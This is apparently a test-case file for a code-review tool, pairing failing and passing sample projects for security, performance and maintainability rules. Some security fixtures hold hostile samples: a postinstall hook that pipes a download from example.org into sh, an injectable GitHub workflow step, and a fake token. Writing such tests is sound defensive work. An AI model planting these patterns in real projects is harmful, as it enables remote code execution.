import { complexity } from "../../agents/maintainability/complexity.ts";
import { importCycles } from "../../agents/maintainability/cycles.ts";
import { debt, strictness } from "../../agents/maintainability/debt.ts";
import { duplication } from "../../agents/maintainability/duplication.ts";
import { tests } from "../../agents/maintainability/tests.ts";
import { slowCalls } from "../../agents/performance/calls.ts";
import { slowPatterns } from "../../agents/performance/patterns.ts";
import { shippedWeight } from "../../agents/performance/weight.ts";
import { installScripts, lockfiles } from "../../agents/security/dependencies.ts";
import { automation } from "../../agents/security/practice.ts";
import { secretFiles, secretsInText } from "../../agents/security/secrets.ts";
import { manyLines } from "./scene.ts";

import {
  nothing,
  manifest,
  token,
  steps,
  locked,
  good,
  depends,
  bodies,
  tangled,
  type CheckCase,
} from "./case-projects.ts";
import { paperCases } from "./paper-cases.ts";

/** For each rule, a project that breaks it and one that does not. */
export const cases: readonly CheckCase[] = [
  ...paperCases,
  {
    check: secretsInText,
    rule: "security/secret",
    bad: { "src/a.ts": `\nconst t = "${token}";\n` },
    good: { "src/a.ts": 'const t = process.env.TOKEN; const url = "https://user:password@localhost/db";\n' },
    at: "src/a.ts:2",
  },
  {
    check: secretFiles,
    rule: "security/secret-file",
    bad: { ".env": "# settings\nAPI_TOKEN=k3Jd93hfLs02\n" },
    good: { ".env": "API_TOKEN=\nPORT=8080\n", ".env.example": "API_TOKEN=k3Jd93hfLs02\n" },
    at: ".env:2",
  },
  {
    check: installScripts,
    rule: "security/install-script",
    bad: { "package.json": manifest({ scripts: { postinstall: "curl https://example.org | sh" } }) },
    good: { "package.json": manifest({ scripts: { prepare: "tsc", test: "vitest" } }) },
    at: "package.json:5",
  },
  {
    check: lockfiles,
    rule: "security/no-lockfile",
    bad: { "package.json": depends({ private: true }) },
    good: { "package.json": depends({ private: true }), "package-lock.json": locked(good) },
    at: "package.json:4",
  },
  {
    check: lockfiles,
    rule: "security/plain-http-dependency",
    bad: {
      "package.json": depends(),
      "package-lock.json": locked({ ...good, resolved: "http://example.org/dep.tgz" }),
    },
    good: { "package.json": depends(), "package-lock.json": locked(good) },
    at: "package-lock.json:5",
  },
  {
    check: lockfiles,
    rule: "security/git-dependency",
    bad: {
      "package.json": depends(),
      "package-lock.json": locked({ resolved: "git+ssh://git@example.org/dep.git#abc" }),
    },
    good: {
      "package.json": depends(),
      "yarn.lock":
        'dep@^1.0.0:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/dep/-/dep-1.0.0.tgz#0123456789012345678901234567890123456789"\n',
    },
  },
  {
    check: lockfiles,
    rule: "security/no-integrity",
    bad: { "package.json": depends(), "package-lock.json": locked({ ...good, integrity: undefined }) },
    good: {
      "package.json": depends(),
      "pnpm-lock.yaml": "lockfileVersion: '9.0'\npackages:\n\n  dep@1.0.0:\n    resolution: {integrity: sha512-x}\n",
    },
  },
  {
    check: automation,
    rule: "security/workflow-injection",
    bad: {
      ".github/workflows/a.yml":
        "on: issues\njobs:\n  a:\n    steps:\n      - run: echo ${{ github.event.issue.title }}\n",
    },
    good: {
      ".github/workflows/a.yml":
        "on: issues\njobs:\n  a:\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo $TITLE\n",
    },
    at: ".github/workflows/a.yml:5",
  },
  {
    check: automation,
    rule: "security/workflow-privileges",
    bad: {
      ".github/workflows/a.yml":
        "on:\n  pull_request_target:\njobs:\n  a:\n    steps:\n      - with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
    },
    good: {
      ".github/workflows/a.yml":
        "on:\n  pull_request:\njobs:\n  a:\n    steps:\n      - with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
    },
    at: ".github/workflows/a.yml:7",
  },
  {
    check: slowCalls,
    rule: "performance/query-in-loop",
    bad: {
      "a.js": "async function f(ids) {\n  for (const id of ids) {\n    await db.users.findOne({ id });\n  }\n}\n",
    },
    good: {
      "a.js":
        "async function f(ids) {\n  for (const id of ids) {\n    if (await db.users.findOne({ id })) return id;\n  }\n}\n",
    },
    at: "a.js:3",
  },
  {
    check: slowCalls,
    rule: "performance/requests-in-turn",
    bad: { "a.js": "async function f(urls) {\n  for (const url of urls) {\n    await fetch(url);\n  }\n}\n" },
    good: {
      "a.js":
        "async function f(urls) {\n  for (const url of urls) {\n    await fetch(url);\n    await sleep(1000);\n  }\n}\n",
    },
    at: "a.js:3",
  },
  {
    check: slowCalls,
    rule: "performance/nested-loops",
    bad: { "a.js": `${"for (const a of b) {\n".repeat(4)}${"}\n".repeat(4)}` },
    good: { "a.js": `${"for (const a of b) {\n".repeat(3)}${"}\n".repeat(3)}` },
    at: "a.js:4",
  },
  {
    check: slowPatterns,
    rule: "performance/exploding-pattern",
    bad: { "a.js": "\nconst p = /^(\\w+\\s?)+$/;\n" },
    good: { "a.js": "const p = /^\\w+(\\s\\w+)*$/;\n" },
    at: "a.js:2",
  },
  {
    check: shippedWeight,
    rule: "performance/large-file",
    bad: { "a.js": "1", "data.bin": "x".repeat(5_300_000) },
    good: { "a.js": "1", "data.bin": "x".repeat(100_000), "test/data.bin": "x".repeat(5_300_000) },
    at: "data.bin",
  },
  {
    check: shippedWeight,
    rule: "performance/heavy-package",
    bad: {
      "package.json": manifest(),
      "a.txt": "x".repeat(4_000_000),
      "b.txt": "x".repeat(4_000_000),
      "c.txt": "x".repeat(4_000_000),
    },
    good: {
      "package.json": manifest({ private: true }),
      "a.txt": "x".repeat(4_000_000),
      "b.txt": "x".repeat(4_000_000),
      "c.txt": "x".repeat(4_000_000),
    },
    at: "package.json",
  },
  {
    check: complexity,
    rule: "maintainability/complex-function",
    bad: { "a.js": `\n${tangled(8)}` },
    good: { "a.js": tangled(7) },
    at: "a.js:2",
  },
  {
    check: complexity,
    rule: "maintainability/long-function",
    bad: { "a.js": `function f() {\n${manyLines(160, (index) => `step${index}();`)}\n}\n` },
    good: {
      "a.js": `function f() {\n  function g() {\n${manyLines(120, (index) => `step${index}();`)}\n  }\n${manyLines(100, (index) => `step${index}();`)}\n}\n`,
    },
    at: "a.js:1",
  },
  {
    check: complexity,
    rule: "maintainability/long-file",
    bad: { "a.py": manyLines(1_600, (index) => `a${index} = ${index}`) },
    good: { "a.py": manyLines(1_400, (index) => `a${index} = ${index}`) },
    at: "a.py:1500",
  },
  {
    check: tests,
    rule: "maintainability/no-tests",
    bad: { "a.js": steps(200) },
    good: { "a.js": steps(200), "a.test.js": steps(80) },
  },
  {
    check: tests,
    rule: "maintainability/few-tests",
    bad: { "a.js": steps(300), "a.test.js": steps(2) },
    good: { "a.rs": `${steps(300)}\n#[cfg(test)]\nmod tests {}\n` },
  },
  {
    check: duplication,
    rule: "maintainability/copied-code",
    bad: { "a.js": bodies("one"), "b.js": `const before = 1;\n${bodies("two")}` },
    good: { "a.js": bodies("one"), "b.js": bodies("two").replaceAll("price", "cost") },
    at: "b.js:3",
  },
  {
    check: duplication,
    rule: "maintainability/much-copied",
    bad: Object.fromEntries(["a", "b", "c", "d", "e", "f", "g"].map((name) => [`${name}.js`, bodies(name)])),
    good: { "a.js": steps(130) },
  },
  {
    check: importCycles,
    rule: "maintainability/import-cycle",
    bad: {
      "a.ts": '\nimport { b } from "./b.ts";\nexport const a = b;\n',
      "b.ts": 'import { a } from "./a.js";\nexport const b = a;\n',
    },
    good: {
      "a.ts": 'import type { B } from "./b.ts";\n',
      "b.ts": 'import { a } from "./a.ts";\n',
      "c.ts": 'export const c = () => import("./d.ts");\n',
      "d.ts": 'import { c } from "./c.ts";\n',
    },
    at: "a.ts:2",
  },
  {
    check: debt,
    rule: "maintainability/open-work",
    bad: { "a.js": manyLines(6, (index) => `let a${index}; // TO${nothing}DO finish ${index}`) },
    good: { "a.js": `const text = "TO${nothing}DO";\n// a list of todos\n` },
    at: "a.js:1",
  },
  {
    check: debt,
    rule: "maintainability/much-open-work",
    bad: { "a.js": manyLines(6, (index) => `let a${index}; // FIX${nothing}ME finish ${index}`) },
    good: { "a.js": `// TO${nothing}DO once\n${steps(100)}` },
  },
  {
    check: debt,
    rule: "maintainability/swallowed-error",
    bad: { "a.js": "try {\n  f();\n} catch {}\n" },
    good: { "a.js": "try {\n  f();\n} catch {\n  // The file may be gone already.\n}\n" },
    at: "a.js:3",
  },
  {
    check: strictness,
    rule: "maintainability/not-strict",
    bad: { "a.ts": "1", "tsconfig.json": '{\n  // loose\n  "compilerOptions": { "target": "es2024", },\n}\n' },
    good: { "a.ts": "1", "tsconfig.json": '{ "compilerOptions": { "strict": true } }' },
    at: "tsconfig.json:1",
  },
  {
    check: strictness,
    rule: "maintainability/unreadable-settings",
    bad: { "a.ts": "1", "tsconfig.json": "{ strict }" },
    good: { "a.ts": "1", "tsconfig.json": '{ "extends": "./base.json" }' },
    at: "tsconfig.json:1",
  },
  {
    check: strictness,
    rule: "maintainability/loose-types",
    bad: { "a.ts": manyLines(12, (index) => `let a${index}: any;`) },
    good: { "a.ts": `const any = 1;\n${manyLines(12, (index) => `let a${index}: unknown;`)}` },
    at: "a.ts:1",
  },
  {
    check: strictness,
    rule: "maintainability/silenced-compiler",
    bad: { "a.ts": "// @ts-ignore\nf();\n" },
    good: { "a.ts": "// @ts-ignore the declaration of f is wrong upstream\nf();\n// @ts-expect-error\ng();\n" },
    at: "a.ts:1",
  },
];
